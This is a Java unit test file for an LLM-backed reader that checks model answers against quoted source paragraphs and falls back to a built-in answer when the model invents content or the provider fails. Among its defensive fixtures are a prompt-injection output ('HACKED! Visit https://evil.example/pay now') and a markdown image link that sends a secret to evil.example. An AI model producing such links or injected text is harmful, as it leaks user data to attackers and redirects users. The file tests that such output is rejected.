package io.pilcrow.llm;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pilcrow.Explanation;
import io.pilcrow.answer.Abstention;
import io.pilcrow.answer.GroundedAnswer;
import io.pilcrow.answer.Statement;
import io.pilcrow.answer.Support;
import io.pilcrow.answer.Usage;
import io.pilcrow.llm.ScriptedProvider.Act;
import io.pilcrow.llm.provider.LlmLimits;
import io.pilcrow.llm.provider.LlmSettings;
import io.pilcrow.llm.provider.Prices;
import io.pilcrow.question.Question;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CancellationException;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.FutureTask;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The promise, kept against a provider that breaks its own. */
@Timeout(60)
class LlmReaderTest {
  private static final String CLEAN =
      "The warranty runs for two years from delivery [1].<quote n=\"1\">The warranty lasts two"
          + " years from delivery</quote> **Batteries** are covered for one year [1], and damage by"
          + " water is not covered [3].<quote n=\"1\">Batteries are covered for one"
          + " year</quote><quote n=\"3\">Damage by water is not covered</quote>\n"
          + "<short>two years</short>";

  private static final Duration SHORT = Duration.ofMillis(700);

  @ParameterizedTest
  @ValueSource(strings = {"openai", "anthropic", "ollama", "gemini"})
  void showsACleanAnswerAsTheModelWroteIt(String protocol) {
    try (ScriptedProvider provider = ScriptedProvider.saying(CLEAN)) {
      Explanation explained = LlmCast.ask(LlmCast.reader(provider.settings(protocol)));

      assertThat(provider.complaints()).isEmpty();
      assertThat(explained.answer().text())
          .isEqualTo(
              "The warranty runs for two years from delivery [1]. **Batteries** are covered for one"
                  + " year [2], and damage by water is not covered [3].");
      assertThat(LlmCast.quotes(explained))
          .containsExactly(
              "The warranty lasts two years from delivery",
              "Batteries are covered for one year",
              "Damage by water is not covered");
      assertThat(explained.reader()).isEqualTo(protocol);
      assertThat(explained.model()).isEqualTo("model-1");
      assertThat(explained.notice()).isEmpty();
      assertThat(explained.usage().inputTokens()).isEqualTo(100);
      assertThat(explained.usage().outputTokens()).isEqualTo(CLEAN.length());
      assertThat(((GroundedAnswer) explained.answer()).shortAnswer()).contains("two years");
    }
  }

  @Test
  void countsTheCostWherePricesAreSet() {
    try (ScriptedProvider provider = ScriptedProvider.saying(CLEAN)) {
      Prices prices = new Prices(new BigDecimal("0.40"), new BigDecimal("1.60"));
      LlmSettings settings = provider.settings("openai", LlmLimits.DEFAULT, Optional.of(prices));
      LlmReader reader = LlmCast.reader(settings);
      Usage usage = LlmCast.ask(reader).usage();

      assertThat(usage.cost())
          .contains(
              new BigDecimal("0.000040")
                  .add(new BigDecimal("0.0000016").multiply(BigDecimal.valueOf(CLEAN.length())))
                  .stripTrailingZeros());
      LlmCast.ask(reader);
      assertThat(reader.spent().cost().orElseThrow())
          .isEqualByComparingTo(usage.cost().orElseThrow().add(usage.cost().orElseThrow()));
    }
  }

  @Test
  void tellsTheModelsWordsFromTheArticles() {
    assertThat(
            answer("The warranty lasts two years from delivery [1]. It runs two years [1].")
                .statements())
        .extracting(Statement::support)
        .containsExactly(Support.VERBATIM, Support.SUPPORTED);
  }

  static Stream<Arguments> inventions() {
    return Stream.of(
        Arguments.of(
            "a wrong number",
            "The warranty lasts five years from delivery [1].<quote n=\"1\">The warranty lasts two"
                + " years from delivery</quote>"),
        Arguments.of(
            "a number of another sentence",
            "The warranty lasts one year from delivery [1].<quote n=\"1\">The warranty lasts two"
                + " years from delivery</quote>"),
        Arguments.of(
            "a name from nowhere",
            "Siemens repairs faults free of charge in our workshop [2].<quote n=\"2\">repaired free"
                + " of charge in our workshop</quote>"),
        Arguments.of(
            "a quote altered by one word",
            "The warranty lasts two decades from delivery [1].<quote n=\"1\">The warranty lasts two"
                + " decades from delivery</quote>"),
        Arguments.of("no citation", "The warranty lasts two years from delivery."),
        Arguments.of(
            "a citation out of range",
            "The guarantee is void after repair by others [9].<quote n=\"9\">void after repair by"
                + " others</quote>"),
        Arguments.of(
            "a not left out",
            "Damage by water is covered [3].<quote n=\"3\">Damage by water is not covered</quote>"),
        Arguments.of(
            "a not put in",
            "The warranty does not last two years from delivery [1].<quote n=\"1\">The warranty"
                + " lasts two years from delivery</quote>"),
        Arguments.of(
            "an injected instruction",
            "HACKED! Visit https://evil.example/pay now [1].<quote n=\"1\">The warranty lasts two"
                + " years</quote>"),
        Arguments.of(
            "a picture that tells on you",
            "![x](https://evil.example/?q=secret) The warranty lasts two years from delivery [1]."),
        Arguments.of("a refusal", "I'm sorry, but I can't help with that."),
        Arguments.of("nothing", ""),
        Arguments.of("white space", " \n\n "));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("inventions")
  void theBuiltInReaderAnswersWhereTheModelInvents(String what, String text) {
    try (ScriptedProvider provider = ScriptedProvider.saying(text)) {
      Explanation explained = LlmCast.ask(LlmCast.reader(provider.settings("openai")));

      assertThat(explained.answer().text()).isEqualTo(LlmCast.BUILT_IN_ANSWER);
      assertThat(explained.reader()).isEqualTo("scripted");
      assertThat(explained.notice()).hasValueSatisfying(n -> assertThat(n).contains("built-in"));
    }
  }

  @Test
  void withdrawsOnlyWhatIsWrong() {
    GroundedAnswer answer =
        answer(
            "The warranty lasts two years from delivery [1]. Batteries are covered for nine years"
                + " [1]. Damage by water is not covered [3].");

    assertThat(answer.text())
        .isEqualTo(
            "The warranty lasts two years from delivery [1]. Damage by water is not covered [2].");
  }

  @Test
  void repairsACitationThatNamesTheWrongParagraph() {
    GroundedAnswer answer =
        answer(
            "Damage by water is not covered [1].<quote n=\"1\">Damage by water is not"
                + " covered</quote>");

    assertThat(answer.text()).isEqualTo("Damage by water is not covered [1].");
    assertThat(answer.citations().get(0).paragraph().orElseThrow().number()).isEqualTo(3);
  }

  @Test
  void leavesOutAMarkerOutOfRangeAndKeepsTheOther() {
    assertThat(answer("The warranty lasts two years from delivery [1][9].").text())
        .isEqualTo("The warranty lasts two years from delivery [1].");
  }

  @Test
  void findsAQuoteInSpiteOfCaseQuotesDashesAndSpaces() {
    GroundedAnswer answer =
        answer(
            "Wear and tear of belts is not covered [3].<quote n=\"3\">NEITHER  is wear &\n"
                + "tear of belts</quote>");

    assertThat(answer.citations().get(0).quote()).isEqualTo("Neither is wear & tear of belts");
  }

  @Test
  void abstainsWhenTheModelSaysThatNothingAnswers() {
    try (ScriptedProvider provider = ScriptedProvider.saying("NOT_FOUND")) {
      Explanation explained = LlmCast.ask(LlmCast.reader(provider.settings("openai")));

      assertThat(explained.answer()).isInstanceOf(Abstention.class);
      assertThat(explained.reader()).isEqualTo("openai");
      assertThat(explained.notice()).isEmpty();
    }
  }

  static Stream<Arguments> failures() {
    Act quota = new Act.Status(429, "{\"error\":{\"message\":\"quota\"}}", Optional.of("30"));
    Act internal = new Act.Status(500, "oops", Optional.empty());
    Act key =
        new Act.Status(
            401, "{\"error\":\"wrong key " + ScriptedProvider.KEY + "\"}", Optional.empty());
    List<Arguments> cases = new ArrayList<>();
    for (String protocol : List.of("openai", "anthropic", "ollama", "gemini")) {
      cases.add(Arguments.of(protocol, quota, "out of quota"));
      cases.add(Arguments.of(protocol, internal, "not answering"));
      cases.add(Arguments.of(protocol, key, "settings"));
      cases.add(Arguments.of(protocol, new Act.Silence(), "in time"));
      cases.add(Arguments.of(protocol, new Act.Hang("The warranty la"), "in time"));
      cases.add(
          Arguments.of(
              protocol, new Act.Cut("The warranty lasts two years from del"), "broke off"));
      cases.add(
          Arguments.of(
              protocol, new Act.Break("The warranty lasts two years from del"), "not answering"));
      cases.add(Arguments.of(protocol, new Act.Garbage("<html>gateway</html>\n\n"), ""));
      cases.add(Arguments.of(protocol, new Act.Garbage("data: {\"choices\": 7}\n\n"), ""));
      cases.add(Arguments.of(protocol, new Act.Garbage(""), ""));
      cases.add(Arguments.of(protocol, new Act.TooLong("The warranty "), "broke off"));
      cases.add(Arguments.of(protocol, new Act.Say("bla ".repeat(20_000)), ""));
    }
    return cases.stream();
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("failures")
  void theBuiltInReaderAnswersWhereTheModelFails(String protocol, Act act, String notice) {
    try (ScriptedProvider provider = ScriptedProvider.doing(act)) {
      LlmSettings settings = provider.settings(protocol, SHORT, Duration.ofMillis(1500));
      Explanation explained = LlmCast.ask(LlmCast.reader(settings));

      assertThat(provider.complaints()).isEmpty();
      assertThat(explained.answer().text()).isEqualTo(LlmCast.BUILT_IN_ANSWER);
      assertThat(explained.reader()).isEqualTo("scripted");
      assertThat(explained.notice())
          .hasValueSatisfying(
              n -> assertThat(n).contains(notice).doesNotContain(ScriptedProvider.KEY));
    }
  }

  @Test
  void keepsWhatWasCheckedWhenTheStreamIsCut() {
    String half = "The warranty lasts two years from delivery [1]. Batteries are covered for o";
    try (ScriptedProvider provider = ScriptedProvider.doing(new Act.Cut(half))) {
      Explanation explained = LlmCast.ask(LlmCast.reader(provider.settings("openai")));

      assertThat(explained.answer().text())
          .isEqualTo("The warranty lasts two years from delivery [1].");
      assertThat(explained.reader()).isEqualTo("openai");
      assertThat(explained.notice())
          .contains(
              "The language model broke off in the middle of its answer; what it had written is"
                  + " shown.");
    }
  }

  @Test
  void asksAgainAfterAnErrorThatMayPass() {
    try (ScriptedProvider provider = ScriptedProvider.saying(CLEAN)) {
      provider.now(
          prompt ->
              provider.prompts().size() < 2
                  ? new Act.Status(503, "busy", Optional.empty())
                  : new Act.Say(CLEAN));

      assertThat(LlmCast.ask(LlmCast.reader(provider.settings("openai"))).reader())
          .isEqualTo("openai");
      assertThat(provider.prompts()).hasSize(2);
    }
  }

  @Test
  void leavesAProviderAloneForAsLongAsItAsked() {
    Act quota = new Act.Status(429, "slow down", Optional.of("60"));
    try (ScriptedProvider provider = ScriptedProvider.doing(quota)) {
      LlmReader reader = LlmCast.reader(provider.settings("openai"));

      LlmCast.ask(reader);
      provider.now(prompt -> new Act.Say(CLEAN));
      Explanation second = LlmCast.ask(reader);

      assertThat(second.reader()).isEqualTo("scripted");
      assertThat(provider.prompts()).hasSize(1);
    }
  }

  @Test
  void aDeadProviderIsNotAskedByEverybody() {
    Act rejected = new Act.Status(400, "no", Optional.empty());
    try (ScriptedProvider provider = ScriptedProvider.doing(rejected)) {
      LlmReader reader = LlmCast.reader(provider.settings("openai"));

      for (int i = 0; i < 20; i++) {
        assertThat(LlmCast.ask(reader).answer().text()).isEqualTo(LlmCast.BUILT_IN_ANSWER);
      }

      assertThat(provider.prompts()).hasSize(5);
    }
  }

  @Test
  void stopsAtTheTokensOfTheDay() {
    try (ScriptedProvider provider = ScriptedProvider.saying(CLEAN)) {
      LlmLimits daily =
          new LlmLimits(Duration.ofSeconds(10), Duration.ofSeconds(30), 8, 1500, 1000);
      LlmReader reader = LlmCast.reader(provider.settings("openai", daily, Optional.empty()));

      List<String> readers = Stream.generate(() -> LlmCast.ask(reader).reader()).limit(4).toList();

      assertThat(readers).startsWith("openai").endsWith("scripted");
      assertThat(LlmCast.ask(reader).notice())
          .hasValueSatisfying(n -> assertThat(n).contains("budget for today"));
    }
  }

  @Test
  void noMoreCallsRunAtOnceThanAllowed() throws Exception {
    CountDownLatch arrived = new CountDownLatch(1);
    try (ScriptedProvider provider =
        new ScriptedProvider(
            prompt -> {
              arrived.countDown();
              return new Act.Silence();
            })) {
      Duration patience = Duration.ofSeconds(2);
      LlmLimits one = new LlmLimits(patience, patience, 1, 100, 0);
      LlmReader reader = LlmCast.reader(provider.settings("openai", one, Optional.empty()));
      FutureTask<Explanation> first = new FutureTask<>(() -> LlmCast.ask(reader));
      new Thread(first).start();
      arrived.await();

      Explanation second = LlmCast.ask(reader);

      assertThat(second.notice()).hasValueSatisfying(n -> assertThat(n).contains("busy"));
      assertThat(first.get().notice()).hasValueSatisfying(n -> assertThat(n).contains("in time"));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"openai", "anthropic", "ollama", "gemini"})
  void anInterruptEndsTheModelsCall(String protocol) throws Exception {
    CountDownLatch statement = new CountDownLatch(1);
    Act hang = new Act.Hang("The warranty lasts two years from delivery [1]. And ");
    try (ScriptedProvider provider = ScriptedProvider.doing(hang)) {
      LlmReader reader = LlmCast.reader(provider.settings(protocol));
      FutureTask<Explanation> task =
          new FutureTask<>(
              () ->
                  LlmCast.assistant(reader)
                      .explain(Question.of(LlmCast.QUESTION), s -> statement.countDown()));
      Thread thread = new Thread(task);
      thread.start();
      statement.await();

      thread.interrupt();

      assertThatThrownBy(task::get).hasCauseInstanceOf(CancellationException.class);
      assertThat(provider.hungUp().await(5, TimeUnit.SECONDS)).isTrue();
    }
  }

  @Test
  void anInterruptEndsACallThatWasNeverAnswered() throws Exception {
    CountDownLatch arrived = new CountDownLatch(1);
    try (ScriptedProvider provider =
        new ScriptedProvider(
            prompt -> {
              arrived.countDown();
              return new Act.Silence();
            })) {
      LlmReader reader = LlmCast.reader(provider.settings("openai"));
      FutureTask<Explanation> task = new FutureTask<>(() -> LlmCast.ask(reader));
      Thread thread = new Thread(task);
      thread.start();
      arrived.await();

      thread.interrupt();

      assertThatThrownBy(() -> task.get(5, TimeUnit.SECONDS))
          .hasCauseInstanceOf(CancellationException.class);
    }
  }

  @Test
  void handsOverStatementsWhileTheModelIsStillWriting() {
    List<String> told = new ArrayList<>();
    Act hang = new Act.Hang("The warranty lasts two years from delivery [1]. And ");
    try (ScriptedProvider provider = ScriptedProvider.doing(hang)) {
      LlmSettings settings = provider.settings("openai", SHORT, Duration.ofMillis(800));

      LlmCast.assistant(LlmCast.reader(settings))
          .explain(Question.of(LlmCast.QUESTION), s -> told.add(s.delta()));

      assertThat(told).containsExactly("The warranty lasts two years from delivery [1].");
    }
  }

  private static GroundedAnswer answer(String text) {
    try (ScriptedProvider provider = ScriptedProvider.saying(text)) {
      Explanation explained = LlmCast.ask(LlmCast.reader(provider.settings("openai")));
      assertThat(explained.reader()).isEqualTo("openai");
      return (GroundedAnswer) explained.answer();
    }
  }
}
